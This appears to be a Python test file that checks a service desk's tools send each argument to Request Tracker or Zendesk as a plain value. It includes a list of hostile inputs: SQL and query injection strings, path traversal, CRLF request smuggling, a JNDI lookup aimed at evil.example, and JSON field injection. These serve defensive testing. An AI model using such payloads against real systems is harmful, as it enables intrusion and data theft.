"""Every argument of every tool in front of another company's desk says what it must not: it stays a value."""

from __future__ import annotations

import json
from collections.abc import Iterator, Mapping
from typing import Any, Final

import pytest

from servicedesk.desk_settings import DeskKind, ForeignDesk
from servicedesk.desks.kinds import profile_of
from servicedesk.tools.catalogue import described_catalogue
from tests.attacks.desk_requests import ids_of, require_plain, route_of
from tests.depth import some
from tests.worlds.foreign_desk import FOREIGN_DESKS, ForeignDeskService

READS: Final = ("get_customer", "get_ticket", "list_tickets", "search_customer", "search_tickets")
MAX_REQUESTS: Final = 6
#: What would be more than a value in TicketSQL, in a query of Zendesk's, in a path, in a header, in JSON.
HOSTILE: Final = {
    "a quote of TicketSQL": "x' OR Status = 'open",
    "a quote behind a backslash": "\\' OR id > 0 OR Subject LIKE '",
    "a quotation mark": 'x" OR id > 0 OR "1" = "1',
    "a parenthesis": "x') OR (id > 0",
    "a comment of SQL": "x' --",
    "the current user": "__CurrentUser__",
    "RT's operators": "Owner = root OR Queue != General",
    "Zendesk's properties": "type:user role:admin",
    "a quoted property": '"x" type:user role:admin "y"',
    "a negation": "-status:closed -type:ticket",
    "comparisons": "created>2000-01-01 id<5",
    "wildcards": "%",
    "a wildcard of one": "_",
    "a star": "*",
    "a word and wildcards": "pri% p_inter prin*",
    "a way up": "../../users/me",
    "a quoted way up": "..%2f..%2fusers%2fme",
    "a twice quoted way up": "%252e%252e%252fqueue",
    "another route": "1/merge/2",
    "a way up within": "1/../2",
    "parameters": "1;2",
    "a query": "1?fields=Password&query=id>0",
    "a fragment": "1#2",
    "a line of HTTP": "1 HTTP/1.1\r\nX-Evil: 1\r\n\r\nGET /x",
    "a line break": "1\n2",
    "a null": "1\x00",
    "typographic quotes": "x\u2019 OR id > 0 OR \u2019",
    "wide quotes": "\uff07 OR id > 0 OR \uff02type\uff1auser\uff02",
    "wide dots": "\uff0e\uff0e\uff0fusers\uff0fme",
    "one-dot leaders": "\u2024\u2024/users",
    "other digits": "\u0661\u0662",
    "half a character": "\ud800' OR id > 0",
    "a negative id": "-1",
    "nothing": "0",
    "a huge id": "9" * 40,
    "all digits": "9" * 19,
    "hexadecimal": "0x1",
    "a sum": "1+1",
    "a group": "group:3",
    "very long": "x' OR id > 0 " * 600,
    "a URL": "http://evil.example/?q=",
    "a template": "{{ticket.comments}} ${jndi:ldap://evil.example}",
    "JSON": '"},{"field":"Password","operator":"LIKE","value":"',
}  # fmt: skip
#: What is no text.
OTHER_TYPES: Final[tuple[Any, ...]] = (
    -1, 0, 1, 10**30, 1.5, True, None, [], ["1"], [["1"]], {"id": "1"}, {"$ne": ""}, ["1", "2"],
)  # fmt: skip


def schemas(kind: str) -> dict[str, dict[str, Any]]:
    """Return the published arguments of the tools in front of a desk."""
    of = {"request tracker": DeskKind.RT, "zendesk": DeskKind.ZENDESK}[kind]
    region = {"region": "user:region"} if of is DeskKind.ZENDESK else {}
    desk = ForeignDesk(kind=of, url="https://desk.example", secret_id="d", regions=("EMEA",), options=region)
    tools = described_catalogue(profile=profile_of(desk))
    return {tool.name: tool.arguments.model_json_schema()["properties"] for tool in tools}


ROWS: Final = [
    (kind, tool, name) for kind in FOREIGN_DESKS for tool, arguments in schemas(kind).items() for name in arguments
]


@pytest.fixture(scope="module")
def desks() -> Iterator[dict[str, ForeignDeskService]]:
    """Return both desks: no attack changes what another finds."""
    with FOREIGN_DESKS["request tracker"]() as tracker, FOREIGN_DESKS["zendesk"]() as zendesk:
        yield {"request tracker": tracker, "zendesk": zendesk}


def fitting(desk: ForeignDeskService, tool: str) -> dict[str, Any]:
    """Return arguments that a tool takes."""
    ticket, customer = {"ticket_id": desk.tickets["jane"]}, {"customer_id": desk.customers["jane"]}
    taken: dict[str, dict[str, Any]] = {
        "add_note": {**ticket, "text": "It is the cable."},
        "create_ticket": {**customer, "subject": "Cable", "description": "It is broken."},
        "get_customer": customer,
        "get_ticket": ticket,
        "list_tickets": {},
        "reply_to_customer": {**ticket, "text": "It is the cable."},
        "search_customer": {"query": "jane"},
        "search_tickets": {"query": "printer"},
        "update_ticket": {**ticket, "version": 1, "priority": "urgent"},
    }
    return taken[tool]


def sent(desk: ForeignDeskService, tool: str, arguments: Mapping[str, Any], whose: str) -> tuple[Any, list[Any]]:
    """Return the result of a call, confirmed if it asks, and what the desk was asked meanwhile."""
    begin = len(desk.wire.asked)
    answer = desk.invoke(tool, arguments, sub=whose)
    assert answer.status in {200, 400}
    result = answer.json.get("result", {"isError": True, "content": [{"text": ""}]})
    return result, desk.wire.asked[begin:]


@pytest.mark.parametrize(("kind", "tool", "name"), ROWS, ids=lambda one: one.replace(" ", "-"))
def test_no_argument_says_more_to_the_desk_than_a_value_does(
    desks: dict[str, ForeignDeskService], kind: str, tool: str, name: str
) -> None:
    desk = desks[kind]
    known = {*desk.tickets.values(), *desk.customers.values()}
    tried = some([*HOSTILE.items(), *((repr(one), one) for one in OTHER_TYPES)], ROWS.index((kind, tool, name)))
    for number, (what, value) in enumerate(tried):
        arguments = {**fitting(desk, tool), name: value}
        result, asked = sent(desk, tool, arguments, f"{tool} {name} {number}")

        for one in asked:
            require_plain(kind, one)
        assert len(asked) <= MAX_REQUESTS, what
        assert ids_of(asked) - known <= ({value} if isinstance(value, str) and value.isdecimal() else set()) | made_ids(
            desk, kind
        ), what
        writes = [one for one in asked if one.method != "GET"]
        assert not writes or tool not in READS, what
        assert len(writes) <= 2, what
        assert "Something went wrong inside" not in json.dumps(result), what
        if name.endswith("_id") or name in {"version", "confirmation"}:
            assert not writes or value in (None, ""), what
        for one in writes:
            require_only_said(kind, one, value)


def made_ids(desk: ForeignDeskService, kind: str) -> set[str]:
    """Return the ids of tickets that attacks opened themselves."""
    return {str(one) for one in desk.desk.tickets} if kind == "request tracker" else set()


def require_only_said(kind: str, write: Any, value: Any) -> None:
    """Fail if what was sent is anywhere in a write but in the one place of its body that is for it."""
    body = write.body["ticket"] if kind == "zendesk" else write.body
    allowed = {
        "request tracker": {"Queue", "Subject", "Requestor", "Priority", "Content", "ContentType", "Status", "Owner"},
        "zendesk": {
            "requester_id", "subject", "comment", "type", "priority", "metadata", "submitter_id", "status",
            "assignee_id", "group_id", "tags", "safe_update", "updated_stamp",
        },
    }[kind]  # fmt: skip
    assert body.keys() <= allowed
    if isinstance(value, str) and len(value) > 2:
        places = [name for name, member in body.items() if value.strip() in json.dumps(member, ensure_ascii=False)]
        assert len(places) <= 1
        assert value not in write.target


@pytest.mark.parametrize("kind", FOREIGN_DESKS)
def test_the_routes_of_the_table_are_those_that_the_tools_ask(kind: str) -> None:
    with FOREIGN_DESKS[kind]() as desk:
        for tool in (*READS, "add_note", "create_ticket"):
            desk.call(tool, fitting(desk, tool))
        desk.call("reply_to_customer", desk.agree("reply_to_customer", fitting(desk, "reply_to_customer")))

        assert (
            {route_of(kind, one) for one in desk.wire.asked} >= {"GET users", "POST ticket/ID/correspond"}
            if (kind == "request tracker")
            else {"GET search", "PUT tickets/ID"}
        )
